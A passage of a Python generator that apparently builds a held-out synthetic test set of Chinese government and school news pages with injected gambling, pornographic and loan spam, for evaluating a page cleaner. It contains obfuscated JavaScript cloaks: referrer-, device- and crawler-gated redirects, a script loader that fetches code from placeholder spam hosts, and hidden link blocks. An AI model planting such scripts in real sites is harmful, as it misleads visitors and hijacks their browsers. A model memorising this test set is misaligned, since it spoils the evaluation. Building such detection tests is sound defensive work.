#!/usr/bin/env python3
"""synthetic-generator-v7: writes ../synthetic-v7/ (40 pages + truth.jsonl + README.md).

Fixed seed 20261207, stdlib only, byte-identical output on re-run:  python make_set.py [OUT_DIR]
Made by the keeper of held-out v7 (who did not read the cleaner). Templates Z1-Z6 and injection forms are new
relative to generators v1-v6; every form names the real case of real-cases-v7 it is modelled on (`modelled_on`).
"""
import html
import json
import random
import re
import sys
from pathlib import Path

SEED = 20261207
E = html.escape
HERE = Path(__file__).resolve().parent
OUT = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE.parent / "synthetic-v7"

# ---------------------------------------------------------------- people, places, dates -----------------------------
SURNAMES = "闫 蒲 裘 滕 殷 苗 籍 童 祁 覃 饶 凌 柏 甘 晏 詹".split()
GIVEN = "雨桐 晓岚 建波 思源 海燕 振宇 佳琪 立新 文博 婉清 国栋 子涵 明哲 秀芝 春晖 永康".split()


def person(r):
    return r.choice(SURNAMES) + r.choice(GIVEN)


def ymd(r, y0=2023, y1=2025):
    y = r.randint(y0, y1)
    m = r.randint(1, 12)
    d = r.randint(1, 28)
    return y, m, d


SCHOOLS = ["澜沧职业技术学院", "青岚师范学院", "北川理工大学", "沂水医学高等专科学校", "云栖工程学院", "丹霞财经学院",
           "海陵第三中学", "石渠县实验小学"]
GOVS = ["柘城县应急管理局", "潞江镇人民政府", "白沙区市场监督管理局", "青溪县水利局", "龙门县农业农村局",
        "东屿区卫生健康委员会", "嘉陵区人力资源和社会保障局", "平川市统计局"]
DEPTS = ["党委宣传部", "办公室", "学生工作处", "教务处", "综合科", "政务公开办"]

# ---------------------------------------------------------------- articles (written by the keeper) -----------------
# each returns (title, [paragraphs]); {org} {m} {d} {p} placeholders filled by the case


def a_exam_security(o, m, d, p):
    return (f"{o}召开2025年研究生招生考试安全保密工作会议", [
        f"{m}月{d}日下午,{o}在行政楼第二会议室召开研究生招生考试安全保密工作会议,各考点负责人、监考教师代表及保卫处、后勤处相关人员参加会议。",
        f"会议传达了上级关于做好考试安全工作的文件精神,通报了本年度报考人数和考场设置情况。今年共设标准化考场46个,全部配备身份核验设备和无线信号屏蔽装置。",
        f"{p}在讲话中要求,各环节要严格落实试卷交接“双人押运、全程录像”制度,对违规行为零容忍;要做好考生防疫、交通和饮食保障,为考生营造安全、公平、温馨的考试环境。"])


def a_flood_drill(o, m, d, p):
    return (f"{o}组织开展汛期山洪灾害避险转移演练", [
        f"为检验山洪灾害防御预案的可操作性,{m}月{d}日,{o}在西沟村组织开展汛期山洪灾害避险转移演练,镇村干部、应急队员和群众共120余人参加。",
        "演练模拟强降雨导致沟道水位快速上涨的情景,依次进行了预警信息发布、危险区人员转移、安置点登记和伤员救护等科目。各小组按照“鸣锣、入户、清点、回报”的流程有序开展工作,20分钟内完成全部转移任务。",
        f"演练结束后,{p}进行了点评,要求各村对照演练中暴露出的通讯不畅、转移路线标识不清等问题逐项整改,确保汛期群众生命安全。"])


def a_food_check(o, m, d, p):
    return (f"{o}开展春季学校食堂食品安全专项检查", [
        f"{m}月{d}日起,{o}抽调执法人员组成4个检查组,对辖区内38所中小学、幼儿园食堂开展春季食品安全专项检查。",
        "检查组重点查看了食品原料进货查验记录、索证索票、餐具清洗消毒、留样以及从业人员健康证明等情况,并对部分食材进行了快速检测。检查中发现问题17处,已当场责令整改。",
        f"{p}表示,下一步将持续加大对校园周边食品经营单位的监管力度,推动“互联网+明厨亮灶”全覆盖,守护师生“舌尖上的安全”。"])


def a_irrigation(o, m, d, p):
    return (f"{o}推进高标准农田灌溉设施建设", [
        f"近日,{o}组织技术人员深入各乡镇,对今年新建的高标准农田项目区灌溉设施进行现场调度。",
        "今年全县计划新建高标准农田3.2万亩,配套建设泵站14座、输水管道86公里。截至目前,已完成田块整治2.1万亩,主体工程进度达到68%。",
        f"{p}介绍,项目建成后可新增节水灌溉面积1.5万亩,亩均节水约80立方米,将有效改善项目区“靠天吃饭”的局面。"])


def a_job_fair(o, m, d, p):
    return (f"{o}举办2025届毕业生春季校园双选会", [
        f"{m}月{d}日,{o}2025届毕业生春季校园双选会在体育馆举行。来自智能制造、现代服务、医药健康等领域的216家用人单位进场招聘,提供岗位4300余个。",
        "现场设置了政策咨询、简历诊断和模拟面试服务台,就业指导教师为毕业生提供“一对一”咨询。不少用人单位当场与毕业生签订就业意向书。",
        f"学生工作处负责人{p}表示,学校将持续开展“访企拓岗”行动,为毕业生搭建更多高质量就业平台。"])


def a_lab_fire(o, m, d, p):
    return (f"{o}开展实验室消防安全培训暨应急疏散演练", [
        f"{m}月{d}日,{o}联合属地消防救援站,在化学实验楼开展实验室消防安全培训暨应急疏散演练。",
        "培训中,消防员结合近年来高校实验室火灾案例,讲解了危险化学品储存、电气线路检查和初起火灾扑救要点,并现场示范灭火器和消防毯的使用方法。",
        f"随后进行的疏散演练中,300余名师生在警报响起后沿指定路线有序撤离,用时3分10秒。{p}表示,学院将把消防演练纳入每学期实验室安全教育的固定内容。"])


def a_census(o, m, d, p):
    return (f"{o}召开第五次全国经济普查数据质量核查工作部署会", [
        f"{m}月{d}日,{o}召开第五次全国经济普查数据质量核查工作部署会,各乡镇(街道)普查机构负责人和普查指导员参加会议。",
        "会议通报了前期单位清查和入户登记工作情况,对数据质量核查的对象、方法和时间安排作了具体部署。核查将采取随机抽取样本、逐项比对原始资料的方式进行。",
        f"{p}强调,要坚决防范和惩治统计造假、弄虚作假,确保普查数据真实准确、完整可信。"])


def a_vaccine(o, m, d, p):
    return (f"{o}启动适龄女生HPV疫苗免费接种工作", [
        f"{m}月{d}日,{o}在第一人民医院预防接种门诊举行适龄女生HPV疫苗免费接种启动仪式,首批50名初二女生完成接种。",
        "根据工作方案,今年全区将为13至14周岁在校女生免费接种国产二价HPV疫苗,预计惠及学生2800余人。接种工作由学校统一组织、家长知情同意后分批进行。",
        f"{p}提醒,接种后应在现场留观30分钟,如出现不适及时报告接种医生。"])


def a_library(o, m, d, p):
    return (f"{o}图书馆“书香校园”阅读月活动启幕", [
        f"{m}月{d}日,{o}图书馆“书香校园”阅读月活动在图书馆报告厅启幕。",
        "本届阅读月以“阅读经典 品味书香”为主题,将陆续开展名家讲座、读书分享会、古籍修复体验和“图书漂流”等12项活动。开幕式上,图书馆还公布了上一年度借阅量前十名的学生名单。",
        f"图书馆馆长{p}表示,希望同学们在阅读中开阔视野、涵养品格,让阅读成为一种生活方式。"])


def a_wage(o, m, d, p):
    return (f"{o}开展根治欠薪冬季专项行动", [
        f"为切实保障农民工工资按时足额支付,{o}自{m}月{d}日起在全区开展根治欠薪冬季专项行动。",
        "专项行动期间,劳动保障监察大队将对在建工程项目、劳动密集型企业开展拉网式排查,重点检查农民工工资专用账户、实名制管理和工资保证金制度落实情况。",
        f"{p}表示,对恶意欠薪行为将依法移送公安机关,并纳入失信联合惩戒名单。劳动者如遇欠薪问题,可拨打12333热线反映。"])


def a_teacher(o, m, d, p):
    return (f"{o}举行青年教师教学基本功比赛", [
        f"{m}月{d}日,{o}第十二届青年教师教学基本功比赛决赛在教学楼举行,来自各学院的18名青年教师参赛。",
        "比赛分为教学设计、课堂教学和教学反思三个环节。参赛教师围绕课程思政、信息技术与教学融合等方面精心设计,展示了扎实的教学功底和良好的精神风貌。",
        f"经过评委现场打分,{p}等3名教师获得一等奖。"])


def a_river(o, m, d, p):
    return (f"{o}开展河湖“清四乱”集中整治行动", [
        f"{m}月{d}日,{o}联合属地乡镇对青溪干流及主要支流开展“清四乱”集中整治行动。",
        "行动共出动人员85人次、机械12台次,清理河道垃圾46吨,拆除违规搭建3处,劝离岸边违规垂钓人员20余人。",
        f"{p}表示,将进一步落实河长制,建立问题清单和整改台账,推动河湖管护常态化。"])


def a_trad_school(o, m, d, p):
    return (f"{o}舉行校園科技節開幕式", [
        f"{m}月{d}日上午,{o}第八屆校園科技節開幕式在學校操場舉行,全校師生一千餘人參加。",
        "本屆科技節為期兩週,設有機器人競賽、航模展示、科學小實驗和創意發明評比等活動。開幕式上,學生代表展示了自主設計的智能垃圾分類裝置。",
        f"校長{p}勉勵同學們保持好奇心,勇於動手實踐,在探索中培養科學精神。"])


def a_en_college(o, m, d, p):
    return ("College hosts international exchange week for partner universities", [
        f"On {['January','February','March','April','May','June','July','August','September','October','November','December'][m-1]} {d}, the college opened its international exchange week, welcoming 40 students and staff from six partner universities.",
        "The programme includes joint laboratory sessions, a Chinese calligraphy workshop and visits to local manufacturing firms. Visiting students will also attend classes with their local peers.",
        f"\"Exchange is the best way to understand one another,\" said {p}, director of the international office."])


# ---- legit lottery / gambling-regulation articles (must not be flagged, must keep every sentence)
def l_lottery_fund(o, m, d, p):
    return (f"{o}公布2024年度彩票公益金使用情况", [
        f"根据《彩票公益金管理办法》规定,{o}于{m}月{d}日向社会公布2024年度彩票公益金使用情况。",
        "2024年度,本级共使用体育彩票公益金1860万元、福利彩票公益金2240万元,主要用于全民健身设施建设、青少年体育活动、养老服务和残疾人康复等项目。",
        "其中,新建和改造社区健身路径42条,资助开展青少年足球、篮球联赛等赛事活动36场次;为1200余名困难老年人提供居家养老服务补贴。",
        f"{p}表示,将继续加强彩票公益金项目绩效管理,自觉接受社会监督,确保每一笔资金都用在实处。"])


def l_court_verdict(o, m, d, p):
    return (f"{o}公开宣判一起开设网络赌场案", [
        f"{m}月{d}日,{o}公开宣判一起开设赌场案,被告人张某等5人因利用境外赌博网站招揽赌客、抽取佣金,分别被判处有期徒刑一年六个月至五年不等,并处罚金。",
        "经审理查明,2022年以来,被告人张某等人在境外赌博网站注册代理账号,通过微信群发布“百家乐”“六合彩”投注链接,发展下线赌客200余人,涉案赌资流水达3800余万元。",
        "法院认为,被告人以营利为目的,在网上开设赌场,情节严重,其行为均已构成开设赌场罪。宣判后,承办法官向旁听群众讲解了网络赌博的危害,提醒群众远离赌博网站,切勿点击来历不明的“博彩”“娱乐城”链接。"])


def l_school_antigambling(o, m, d, p):
    return (f"{o}开展“远离网络赌博 守护青春校园”主题教育活动", [
        f"{m}月{d}日,{o}邀请辖区派出所民警走进校园,开展“远离网络赌博 守护青春校园”主题教育活动。",
        "民警结合真实案例,揭露了网络赌博平台以“充值返利”“稳赚不赔”“电竞竞猜”为诱饵诱骗学生参赌的常见套路,并提醒同学们不要出租、出借银行卡和手机卡,以免沦为赌博团伙的“工具人”。",
        f"活动现场还发放了禁赌宣传手册500余份。{p}表示,学校将把防范网络赌博纳入安全教育课程,引导学生树立正确的金钱观和消费观。"])


def l_lottery_station(o, m, d, p):
    return (f"{o}开展体育彩票销售网点规范经营检查", [
        f"为规范体育彩票销售行为,{m}月{d}日,{o}会同体彩分中心对城区28家体育彩票销售网点开展规范经营检查。",
        "检查组重点检查了网点是否存在向未成年人售票、信用方式售票、通过互联网违规销售彩票等行为,并查看了“未成年人不得购买彩票”等警示标识的张贴情况。",
        f"检查发现2家网点警示标识缺失,已督促当场整改。{p}表示,将持续推进责任彩票建设,倡导“量力而行、理性购彩”。"])


ARTICLES = dict(exam=a_exam_security, flood=a_flood_drill, food=a_food_check, irrig=a_irrigation, job=a_job_fair,
                labfire=a_lab_fire, census=a_census, vaccine=a_vaccine, library=a_library, wage=a_wage,
                teacher=a_teacher, river=a_river, trad=a_trad_school, en=a_en_college,
                L_fund=l_lottery_fund, L_court=l_court_verdict, L_school=l_school_antigambling, L_station=l_lottery_station)

# ---------------------------------------------------------------- invented brands (new shapes) ----------------------
BRANDS = [
    ("鎏金阁jl2277官方入口", "cjk+latin+digits+官方入口 tail"),
    ("星曜汇·线上(中国)旗舰站", "cjk middle-dot + (中国) + 旗舰站 tail"),
    ("ＢＯ９９ 博鳌会", "full-width latin/digits + cjk"),
    ("qlbet-九龙湾", "latin-hyphen-cjk"),
    ("飞鸢竞技㊣官网", "cjk + circled ideograph + 官网"),
    ("鲲鹏娱乐kp.vip", "cjk + dotted short domain"),
    ("翡翠湾-FCW88娱乐", "cjk-hyphen-latin+digits + 娱乐"),
    ("麒麟会(QL)彩票平台", "cjk + (latin) + 彩票平台"),
    ("海贝棋牌hb3366", "cjk 棋牌 + latin+digits"),
    ("大满贯dmg体育下载", "cjk + latin + 体育下载"),
    ("银狐真人视讯", "cjk 真人视讯"),
    ("凯越彩票app", "cjk 彩票 + app"),
]
EMOJI = ["🎯", "🪁", "🧿", "🫧", "🪸", "🛞", "🧩", "🪇", "🦩", "🫶", "🪻", "🥏"]
PORN = ["国产精品自拍偷拍在线播放", "久久婷婷五月综合色啪", "日韩无码高清中文字幕", "免费观看成人福利视频",
        "亚洲精品一区二区三区蜜臀", "欧美日韩国产在线一区"]
MED = ["沂州男科医院哪家好", "治疗早泄最好的医院", "阳痿早泄专科医院排名"]
LOAN = ["快易借无视黑白户秒下款", "学生分期贷款不看征信", "网贷口子当天放款"]
HOSTS = ["kq7d.vip", "hb90zz.top", "xn-9kl.cc", "rt6622.net", "ds-88k.app", "wq3x.club"]


# ---------------------------------------------------------------- script cloaks (new obfuscations and gates) -------
def rot13(s):
    out = []
    for ch in s:
        if "a" <= ch <= "z":
            out.append(chr((ord(ch) - 97 + 13) % 26 + 97))
        elif "A" <= ch <= "Z":
            out.append(chr((ord(ch) - 65 + 13) % 26 + 65))
        else:
            out.append(ch)
    return "".join(out)


def s_rot13_referrer(host):
    # referrer gate (search engines), target host ROT13-encoded; modelled on rc7-019 (br.js: redirect only for Google/Baidu referrals)
    enc = rot13("https://" + host + "/?f=zc")
    return ("<script>\n(function(){var r=document.referrer||'';if(!/(baidu|sogou|so\\.com|sm\\.cn|google)\\./i.test(r))return;"
            f"var u='{enc}'.replace(/[a-z]/gi,function(c){{var b=c<='Z'?65:97;return String.fromCharCode((c.charCodeAt(0)-b+13)%26+b);}});"
            "setTimeout(function(){location.replace(u);},80);})();\n</script>", "script_referrer_gate_rot13")


def s_dataset_join(host):
    # device gate (narrow screen) + URL split over data-* attributes of an empty element; modelled on rc7-019 (mobile-only betting redirect)
    parts = ["https:", "", host, "m"]
    attrs = " ".join(f'data-k{i}="{E(x)}"' for i, x in enumerate(parts))
    return (f'<i id="tjx" {attrs}></i>\n<script>\nif(window.matchMedia&&matchMedia("(max-width: 820px)").matches){{'
            'var d=document.getElementById("tjx").dataset;window.location.href=[d.k0,d.k1,d.k2,d.k3].join("/");}\n</script>',
            "script_device_gate_dataset_join")


def s_ua_decoy(brand, host):
    # spider UA gate: crawlers get a brand line written in; URL/brand carry a decoy character stripped at run time;
    # modelled on rc7-020 (keyword function shown to search traffic) and rc7-018 (third-party script on every page)
    dec = lambda s: "¦".join(s)  # noqa: E731
    return ("<script>\nif(/spider|bot|slurp|bingpreview/i.test(navigator.userAgent)){"
            f"var t='{dec(brand)}'.split('¦').join(''),h='{dec(host)}'.split('¦').join('');"
            "document.write('<p class=\"kwd\"><a href=\"https://'+h+'/\">'+t+'</a></p>');}\n</script>",
            "script_ua_gate_decoy_char")


def s_cookie_counter(host):
    # first-visit cookie gate loading a 'counter' script from a spam host built from char codes in reverse; modelled on rc7-018
    codes = ",".join(str(ord(c)) for c in reversed("//" + host + "/tj.js"))
    return ("<script>\nif(document.cookie.indexOf('_fv=1')<0){document.cookie='_fv=1;path=/;max-age=86400';"
            f"var a=[{codes}],s='';for(var i=a.length-1;i>=0;i--)s+=String.fromCharCode(a[i]);"
            "var e=document.createElement('script');e.src=location.protocol+s;document.head.appendChild(e);}\n</script>",
            "script_first_visit_cookie_reverse_codes")


def s_seoref_onclick(host):
    # modelled on rc7-020: keyword/referrer function bound to a clickable element, here the article's own images area
    return ('<script>\nfunction kwgo(){var q=encodeURIComponent(document.referrer);'
            f"window.location='//'+'{host}'+'/s.php?seoref='+q+'&u='+encodeURIComponent(document.URL);}}\n</script>",
            "script_seoref_onclick_function")


# ---------------------------------------------------------------- hidden blocks (new kinds) --------------------------
def links_html(r, brand, host, n=4):
    kws = [brand, brand[:2] + "注册送彩金", brand[:2] + "真人百家乐", "在线" + brand[-2:] + "入口", brand[:3] + "平台"]
    return "".join(f'<a href="https://{host}/{i}">{E(kws[i % len(kws)])}</a>' for i in range(n))


def h_maxheight(r, brand, host):
    return f'<div style="max-height:0;overflow:hidden">{links_html(r, brand, host)}</div>', "hidden_maxheight_zero"


def h_stylesheet_id(r, brand, host):
    return (f'<style>#fl_{r.randint(100, 999)}x{{display:none}}</style>', f'<div id="fl_XXX">{links_html(r, brand, host)}</div>',
            "hidden_stylesheet_id_rule")


def h_collapse_row(r, brand, host):
    return (f'<table class="fl"><tr style="visibility:collapse"><td>{links_html(r, brand, host, 3)}</td></tr></table>',
            "hidden_table_row_visibility_collapse")


def h_noembed(r, brand, host):
    return (f'<noembed><a href="https://{host}/">{E(brand)}</a> <a href="https://{host}/reg">{E(brand[:2])}注册送彩金</a></noembed>',
            "hidden_noembed_links")


def h_select_hidden(r, brand, host):
    opts = "".join(f'<option value="https://{host}/{i}">{E(brand if i == 0 else brand[:2] + "官方" + str(i))}</option>' for i in range(3))
    return f'<select hidden name="ylink">{opts}</select>', "hidden_select_options"


# ---------------------------------------------------------------- templates Z1-Z6 -----------------------------------
def cn(y, m, d):
    return f"{y}-{m:02d}-{d:02d}"


def z1_vsb(c):
    """博达 VSB news page: _newscontent_fromname form, nr_tit block with 发布时间/作者/来源/点击."""
    meta = f'发布时间:{c["date"]}'
    if c["author_shown"]:
        meta += f'&nbsp;&nbsp;作者:{E(c["author_shown"])}'
    if c["source_shown"]:
        meta += f'&nbsp;&nbsp;来源:{E(c["source_shown"])}'
    meta += '&nbsp;&nbsp;点击:<script>_showDynClicks("wbnews", 1551023947, 4410)</script>'
    crumb = " &gt; ".join(f'<a href="../../index.htm">{E(x)}</a>' for x in c["crumb"])
    body = "\n".join(f'<p style="text-indent:2em;">{x}</p>' for x in c["paras_html"])
    return f"""<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<title>{E(c["head_title"])}</title>
<meta name="description" content="{E(c["desc"])}">
<link rel="stylesheet" href="../../style/list.css">{c["head_extra"]}
</head>
<body>{c["pre_header"]}
<div class="header"><div class="w1200"><img src="../../images/logo.png" alt="{E(c["org"])}"></div></div>
<div class="w1200 main"><div class="position">当前位置: {crumb}</div>
<form name="_newscontent_fromname"><div class="nr_tit"><h1>{E(c["h1"])}</h1><p class="fbsj">{meta}</p></div>
<div id="vsb_content"><div class="v_news_content">
{body}
</div></div>{c["after_article"]}
<div id="div_vote_id"></div>
</form></div>
<div class="footer"><p>Copyright&copy; {E(c["org"])} 版权所有</p>{c["footer_extra"]}</div>{c["body_end"]}
</body></html>
"""


def z2_webplus(c):
    """WebPlus (SudyTech) page: frag windows, arti_metas spans, wp_articlecontent."""
    spans = [f'<span class="arti_update">发布时间:{c["date"]}</span>']
    if c["author_shown"]:
        spans.append(f'<span class="arti_publisher">作者:{E(c["author_shown"])}</span>')
    if c["source_shown"]:
        spans.append(f'<span class="arti_from">来源:{E(c["source_shown"])}</span>')
    spans.append('<span class="WP_VisitCount" url="/_visitcountdisplay?siteId=57&type=3&articleId=611203">0</span>')
    body = "\n".join(f'<p>{x}</p>' for x in c["paras_html"])
    return f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />
<title>{E(c["head_title"])}</title>
<meta name="keywords" content="{E(c["org"])}" />
<link type="text/css" href="/_css/_system/system.css" rel="stylesheet"/>{c["head_extra"]}
</head>
<body class="list">{c["pre_header"]}
<div class="wrapper header" id="header"><div class="inner" frag="面板01"><div class="sitelogo" frag="窗口01"></div></div></div>
<div class="wrapper" id="d-container"><div class="inner">
<div class="col_path" frag="窗口3"><span class="possplit">当前位置:</span>{" / ".join(E(x) for x in c["crumb"])}</div>
<div class="infobox" frag="窗口4"><div class="article">
<h1 class="arti_title">{E(c["h1"])}</h1>
<p class="arti_metas">{"".join(spans)}</p>
<div class="entry"><div class="read"><div class='wp_articlecontent'>
{body}
</div></div></div>{c["after_article"]}
</div></div></div></div>
<div class="wrapper footer" id="footer"><div class="inner" frag="面板10"><p class="copyright">版权所有 {E(c["org"])}</p>{c["footer_extra"]}</div></div>{c["body_end"]}
</body></html>
"""


def z3_gb18030_dl(c):
    """GB18030-declared 信息公开 page: metadata as a <dl> grid of dt/dd pairs, article in <div id="zoom"> with <font>."""
    dl = [("索引号", c["index_no"]), ("发布机构", c["org"]), ("生成日期", c["date"]), ("文号", ""),
          ("来源", c["source_shown"] or ""), ("公开方式", "主动公开")]
    dlh = "".join(f"<dt>{E(k)}:</dt><dd>{E(v)}</dd>" for k, v in dl)
    body = "\n".join(f'<p><font face="宋体" size="3">　　{x}</font></p>' for x in c["paras_html"])
    return f"""<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=gb18030">
<title>{E(c["head_title"])}</title>{c["head_extra"]}
</head>
<body leftmargin="0" topmargin="0">{c["pre_header"]}
<div id="xxgk_top"><img src="/xxgk/images/top.jpg" width="1000" height="120"></div>
<div id="xxgk_path">您的位置:{" &raquo; ".join(E(x) for x in c["crumb"])}</div>
<dl class="xxgk_meta">{dlh}</dl>
<div id="xxgk_title"><font size="5" color="#b40000"><b>{E(c["h1"])}</b></font></div>
<div id="zoom">
{body}
</div>{c["after_article"]}
<div id="xxgk_tools">【<a href="javascript:window.print()">打印本页</a>】【<a href="javascript:window.close()">关闭窗口</a>】</div>
<div id="xxgk_foot">主办:{E(c["org"])}　技术支持:县信息中心{c["footer_extra"]}</div>{c["body_end"]}
</body>
</html>
"""


def z4_amp_jsonld(c):
    """AMP-like mobile page; date/author only in JSON-LD NewsArticle and a <time> element."""
    ld = {"@context": "https://schema.org", "@type": "NewsArticle", "headline": c["h1"], "datePublished": c["date"] + "T09:30:00+08:00",
          "publisher": {"@type": "Organization", "name": c["org"]}}
    if c["author_shown"]:
        ld["author"] = {"@type": "Person", "name": c["author_shown"]}
    body = "\n".join(f"<p>{x}</p>" for x in c["paras_html"])
    src = f'<span class="src">{E(c["source_shown"])}</span>' if c["source_shown"] else ""
    return f"""<!doctype html>
<html amp lang="{c["lang_attr"]}">
<head>
<meta charset="utf-8">
<title>{E(c["head_title"])}</title>
<meta name="viewport" content="width=device-width,minimum-scale=1,initial-scale=1">
<script async src="https://cdn.ampproject.org/v0.js"></script>
<script type="application/ld+json">{json.dumps(ld, ensure_ascii=False)}</script>
<style amp-custom>body{{font-size:16px}}.meta{{color:#888}}</style>{c["head_extra"]}
</head>
<body>{c["pre_header"]}
<header class="bar"><a href="/m/">{E(c["org"])}</a></header>
<article>
<h1>{E(c["h1"])}</h1>
<div class="meta"><time datetime="{c["date"]}">{c["date"]}</time> {src}</div>
<amp-img src="/m/upload/cover.jpg" width="640" height="360" layout="responsive"></amp-img>
{body}
</article>{c["after_article"]}
<footer class="ft">{E(c["org"])} 手机版{c["footer_extra"]}</footer>{c["body_end"]}
</body>
</html>
"""


def z5_static_blog(c):
    """Static-site (Hugo-like) department news: <time datetime>, dl.post-meta, article in .post-content."""
    dl = f'<dt>日期</dt><dd><time datetime="{c["date"]}">{c["date"]}</time></dd>'
    if c["author_shown"]:
        dl += f'<dt>{"Author" if c["lang"] == "en" else "撰稿"}</dt><dd>{E(c["author_shown"])}</dd>'
    if c["source_shown"]:
        dl += f'<dt>来源</dt><dd>{E(c["source_shown"])}</dd>'
    body = "\n".join(f"<p>{x}</p>" for x in c["paras_html"])
    return f"""<!DOCTYPE html>
<html lang="{c["lang_attr"]}">
<head>
<meta charset="utf-8">
<meta name="generator" content="Hugo 0.121.1">
<title>{E(c["head_title"])}</title>
<link rel="stylesheet" href="/css/main.min.css">{c["head_extra"]}
</head>
<body>{c["pre_header"]}
<nav class="topnav"><a href="/">{E(c["org"])}</a><a href="/news/">News</a><a href="/notice/">Notice</a></nav>
<main class="container">
<nav class="breadcrumb">{" / ".join(E(x) for x in c["crumb"])}</nav>
<article class="post">
<header class="post-header"><h1 class="post-title">{E(c["h1"])}</h1><dl class="post-meta">{dl}</dl></header>
<div class="post-content">
{body}
</div>
</article>{c["after_article"]}
</main>
<footer class="site-footer"><p>&copy; {E(c["org"])}</p>{c["footer_extra"]}</footer>{c["body_end"]}
</body>
</html>
"""


def z6_word_export(c):
    """Notice saved from MS Word ('Web page, filtered') on a county site: MsoNormal paragraphs, 仿宋 spans,
    signature and date at the end; a site header wrapped around the WordSection div."""
    body = "\n".join(f"<p class=MsoNormal style='text-indent:32.0pt;line-height:28.0pt'><span style='font-size:16.0pt;font-family:仿宋_GB2312'>{x}</span></p>"
                     for x in c["paras_html"])
    src = f"　　信息来源:{E(c['source_shown'])}" if c["source_shown"] else ""
    return f"""<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head>
<meta http-equiv=Content-Type content="text/html; charset=utf-8">
<meta name=Generator content="Microsoft Word 15 (filtered)">
<title>{E(c["head_title"])}</title>
<style>p.MsoNormal{{margin:0cm;text-align:justify;font-size:10.5pt}}</style>{c["head_extra"]}
</head>
<body lang=ZH-CN style='text-justify-trim:punctuation'>{c["pre_header"]}
<div class="site-top">{E(c["org"])}门户网站 &gt; {" &gt; ".join(E(x) for x in c["crumb"][1:])}</div>
<div class="doc-info">发布日期:{c["date"]}{src}</div>
<div class=WordSection1 style='layout-grid:15.6pt'>
<p class=MsoNormal align=center style='text-align:center;line-height:28.0pt'><b><span style='font-size:22.0pt;font-family:方正小标宋简体'>{E(c["h1"])}</span></b></p>
<p class=MsoNormal>&nbsp;</p>
{body}
<p class=MsoNormal align=right style='text-align:right'><span style='font-size:16.0pt;font-family:仿宋_GB2312'>{E(c["sign_org"])}</span></p>
</div>{c["after_article"]}
<div class="site-foot">{E(c["org"])} 版权所有{c["footer_extra"]}</div>{c["body_end"]}
</body>
</html>
"""


TEMPLATES = dict(Z1=z1_vsb, Z2=z2_webplus, Z3=z3_gb18030_dl, Z4=z4_amp_jsonld, Z5=z5_static_blog, Z6=z6_word_export)
ENCODING = dict(Z1="utf-8", Z2="utf-8", Z3="gb18030", Z4="utf-8", Z5="utf-8", Z6="utf-8")

# ---------------------------------------------------------------- forms and the real cases they are modelled on -----
FORMS = {
    "porn_line_before_header": "rc7-008, rc7-012 (underscore/comma-joined porn keyword line above the header)",
    "porn_line_with_random_id_tags": "rc7-013 ('|'-joined porn line + empty <bdo>/<dfn> tags with a random id)",
    "porn_line_after_credit": "rc7-004 (comma-joined porn line after the article's credit line)",
    "porn_headline_pipe_segment": "rc7-001 (porn keyword as the last '|' segment of headline and <title>)",
    "brand_infix_emoji": "rc7-009 (brand infixed before a recurring keyword + emoji sprayed between clauses)",
    "brand_for_name_emoji": "rc7-015 (brand replaces the institution's name + emoji noise)",
    "brand_mid_sentence": "rc7-005, rc7-014, rc7-016 (brand phrase replaces the name inside one sentence)",
    "title_brand_variants_only": "rc7-006 (<title> = '|'-joined brand variants, brand for the organisation in the body)",
    "headline_brand_colon_prefix": "rc7-007 (brand + ':' before the headline and as the subject of the first sentence)",
    "spliced_source_brand": "rc7-003 (brand in the 来源 field)",
    "keyword_glued_paragraph_end": "rc7-010 (draw-result keyword glued to the end of a paragraph)",
    "keyword_title_glued": "rc7-011 (《keyword》 glued after a paragraph)",
    "signature_attachment_brand": "rc7-002 (brand in attachment lines and the signature)",
    "medical_line_after_article": "rc7-004 (form of the keyword line, with medical keywords — non-gambling spam)",
    "loan_line_before_header": "rc7-012 (form of the header line, with loan keywords — non-gambling spam)",
}

# case plan: (template, article, forms, script, hidden)
PLAN = [
    ("Z1", "exam", ["porn_line_before_header"], "rot13", None),
    ("Z2", "flood", ["brand_mid_sentence"], None, "maxheight"),
    ("Z3", "food", ["spliced_source_brand"], "dataset", None),
    ("Z4", "job", ["porn_headline_pipe_segment"], None, None),
    ("Z5", "labfire", ["brand_infix_emoji"], None, "svg"),
    ("Z6", "census", ["signature_attachment_brand"], "cookie", None),
    ("Z1", "vaccine", ["medical_line_after_article"], None, "font0"),
    ("Z2", "library", ["title_brand_variants_only"], "ua", None),
    ("Z3", "wage", ["loan_line_before_header"], None, "stylesheet"),
    ("Z4", "teacher", ["headline_brand_colon_prefix"], "seoref", None),
    ("Z5", "river", ["porn_line_with_random_id_tags"], None, None),
    ("Z6", "irrig", ["keyword_title_glued"], "rot13", None),
    ("Z1", "trad", ["brand_for_name_emoji"], None, None),
    ("Z2", "L_fund", ["keyword_glued_paragraph_end"], None, "select"),
    ("Z3", "exam", ["porn_line_after_credit"], "ua", None),
    ("Z4", "flood", ["spliced_source_brand", "brand_mid_sentence"], None, None),
    ("Z5", "en", [], "cookie", "maxheight"),
    ("Z6", "food", ["loan_line_before_header"], None, "svg"),
    ("Z1", "job", ["title_brand_variants_only"], "dataset", None),
    ("Z2", "labfire", ["porn_line_before_header"], None, "stylesheet"),
    ("Z3", "census", ["headline_brand_colon_prefix"], None, "font0"),
    ("Z4", "vaccine", ["medical_line_after_article"], "rot13", None),
    ("Z5", "library", ["brand_mid_sentence"], "seoref", None),
    ("Z6", "wage", ["porn_headline_pipe_segment"], None, None),
    ("Z1", "teacher", ["keyword_title_glued"], None, "select"),
    ("Z2", "river", ["spliced_source_brand"], "ua", None),
    ("Z3", "irrig", [], "dataset", "svg"),
    ("Z4", "trad", ["porn_line_with_random_id_tags"], None, None),
    # clean (12): 8 regular + 4 legit lottery/gambling
    ("Z5", "job", [], None, None),
    ("Z6", "exam", [], None, None),
    ("Z1", "river", [], None, None),
    ("Z2", "en", [], None, None),
    ("Z3", "library", [], None, None),
    ("Z4", "irrig", [], None, None),
    ("Z5", "wage", [], None, None),
    ("Z6", "teacher", [], None, None),
